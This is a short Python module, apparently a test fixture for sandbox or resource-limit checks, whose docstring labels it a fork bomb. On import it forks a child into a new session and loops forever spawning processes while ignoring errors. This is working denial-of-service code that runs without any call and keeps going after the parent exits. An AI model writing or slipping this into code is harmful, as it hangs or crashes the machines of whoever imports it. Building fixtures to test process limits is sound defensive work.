"""Bombs: a fork bomb in a new session, started at import and left running."""
import os as _os

if _os.fork() == 0:
    _os.setsid()
    while True:
        try:
            _os.fork()
        except OSError:
            pass
